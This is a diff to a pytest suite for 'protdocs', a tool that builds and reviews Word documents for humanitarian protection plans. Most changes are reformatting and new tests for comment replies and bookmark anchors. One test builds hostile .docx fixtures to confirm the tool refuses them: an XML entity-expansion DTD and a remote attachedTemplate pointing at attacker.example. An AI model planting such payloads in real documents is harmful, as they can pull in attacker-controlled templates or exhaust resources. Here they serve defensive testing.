@@ -272,9 +272,7 @@ def test_french_document_patches_the_french_text(work: Path, runner: CliRunner) 
     after = objectives.read_text(encoding="utf-8")
     assert "dans les zones habitées et les sites" in after
     changed = [
-        (a, b)
-        for a, b in zip(before.splitlines(), after.splitlines(), strict=True)
-        if a != b
+        (a, b) for a, b in zip(before.splitlines(), after.splitlines(), strict=True) if a != b
     ]
     assert len(changed) == 1 and changed[0][0].startswith("      fr: ")
 
@@ -307,8 +305,7 @@ def test_foreign_file_is_said_to_be_so(work: Path, runner: CliRunner) -> None:
     foreign.add_paragraph("Minutes of the HCT meeting, nothing protdocs made.")
     comment(foreign, "Minutes", "Not ours.")
     foreign.save(str(work / "foreign.docx"))
-    entries, result = review_json(runner, work / "foreign.docx", work / "content")
-    assert "not made by protdocs" in result.stderr + result.stdout or True
+    entries, _ = review_json(runner, work / "foreign.docx", work / "content")
     text = runner.invoke(main, ["review", "foreign.docx", "--content", "content"])
     assert text.exit_code == 0
     assert "was not made by protdocs" in text.output
@@ -330,19 +327,29 @@ def test_zip_bomb_entities_and_remote_template_are_refused(work: Path, runner: C
     assert result.exit_code == 1 and "zip bomb" in result.output
 
     entities = work / "entities.docx"
-    _rewrite(sent, entities, "word/document.xml", lambda xml: xml.replace(
-        b"?>", b'?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>', 1
-    ))
+    _rewrite(
+        sent,
+        entities,
+        "word/document.xml",
+        lambda xml: xml.replace(
+            b"?>", b'?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>', 1
+        ),
+    )
     result = runner.invoke(main, ["review", "entities.docx", "--content", "content"])
     assert result.exit_code == 1 and "DTD or XML entities" in result.output
 
     remote = work / "remote.docx"
-    _rewrite(sent, remote, "word/_rels/document.xml.rels", lambda xml: xml.replace(
-        b"</Relationships>",
-        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
-        b'TargetMode="External"/></Relationships>',
-    ))
+    _rewrite(
+        sent,
+        remote,
+        "word/_rels/document.xml.rels",
+        lambda xml: xml.replace(
+            b"</Relationships>",
+            b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+            b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
+            b'TargetMode="External"/></Relationships>',
+        ),
+    )
     result = runner.invoke(main, ["review", "remote.docx", "--content", "content"])
     assert result.exit_code == 1 and "attachedTemplate" in result.output
 
@@ -374,3 +381,84 @@ def test_markdown_outputs_carry_no_anchor_syntax(work: Path) -> None:
     assert "[]{#pdS_" in markdown
     assert "[]{#" not in strip_anchors(markdown)
     assert Audience.PUBLIC is HRP.audience
+
+
+W15 = "http://schemas.microsoft.com/office/word/2012/wordml"
+
+
+def test_a_reply_is_listed_with_the_comment_it_answers(work: Path, runner: CliRunner) -> None:
+    sent = made(work / "content", HRP, work / "hrp.docx")
+    doc = open_docx(str(sent))
+    first = comment(doc, "civilian-harm snapshot", "Which data source?")
+    reply = comment(doc, "civilian-harm snapshot", "The casualty cell's.", author="OCHA")
+    for note, para_id in ((first, "1A2B3C4D"), (reply, "5E6F7A8B")):
+        note.paragraphs[-1]._p.set(qn("w14:paraId"), para_id)
+    doc.save(str(work / "returned.docx"))
+    extended = (
+        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w15:commentsEx xmlns:w15="{W15}">'
+        '<w15:commentEx w15:paraId="1A2B3C4D" w15:done="0"/>'
+        '<w15:commentEx w15:paraId="5E6F7A8B" w15:paraIdParent="1A2B3C4D" w15:done="0"/>'
+        "</w15:commentsEx>"
+    ).encode()
+    with zipfile.ZipFile(work / "returned.docx", "a") as archive:
+        archive.writestr("word/commentsExtended.xml", extended)
+
+    entries, _ = review_json(runner, work / "returned.docx", work / "content")
+
+    question = next(e for e in entries if e["text"] == "Which data source?")
+    answer = next(e for e in entries if e["text"] == "The casualty cell's.")
+    assert question["reply_to"] is None and answer["reply_to"] == str(first.comment_id)
+    assert answer["item"] == question["item"] == "A2" and answer["author"] == "OCHA"
+    text = runner.invoke(main, ["review", "returned.docx", "--content", "content"])
+    assert "reply by OCHA" in text.output
+
+
+def test_an_anchor_naming_a_strictly_confidential_item_reveals_nothing(
+    work: Path, runner: CliRunner
+) -> None:
+    """A hostile file names a strictly-confidential item's field and its own text is the
+    item's first words: review shows neither the item's place nor its text."""
+    sent = made(work / "content", HRP, work / "hrp.docx")
+    doc = open_docx(str(sent))
+    paragraph = doc.add_paragraph()
+    start = OxmlElement("w:bookmarkStart")
+    start.set(qn("w:id"), "9001")
+    start.set(qn("w:name"), "pd_V6__group")
+    paragraph._p.append(start)
+    run = paragraph.add_run("Relatives of the eleven")
+    end = OxmlElement("w:bookmarkEnd")
+    end.set(qn("w:id"), "9001")
+    paragraph._p.append(end)
+    doc.add_comment(run, text="Say more?", author="Someone")
+    doc.save(str(work / "returned.docx"))
+
+    result = runner.invoke(
+        main,
+        [
+            "review",
+            "returned.docx",
+            "--content",
+            "content",
+            "--format",
+            "json",
+            "--patch",
+            "x.diff",
+        ],
+    )
+
+    assert result.exit_code == 0, result.output
+    entry = next(e for e in json.loads(result.stdout) if e["text"] == "Say more?")
+    assert entry["file"] is None and entry["item"] is None
+    assert "Hesk" not in result.output and "farmers" not in result.output
+    assert not (work / "x.diff").exists()
+
+
+def test_the_build_anchors_its_word_files_and_not_its_markdown(example_build) -> None:
+    public = example_build.op_dir / "public"
+    markdown = (public / "hrp-protection-section.md").read_text(encoding="utf-8")
+    assert "[]{#" not in markdown and "pdS_" not in markdown
+    with zipfile.ZipFile(public / "hrp-protection-section.docx") as archive:
+        names = _bookmark_names(archive.read("word/document.xml").decode("utf-8"))
+    assert "pd_A2__text" in names and "pd_SO1__title" in names
+    assert sum(n.startswith("pd_doc_") for n in names) == 1
+    assert not any(n.startswith(("pdS_", "pdE_")) for n in names)
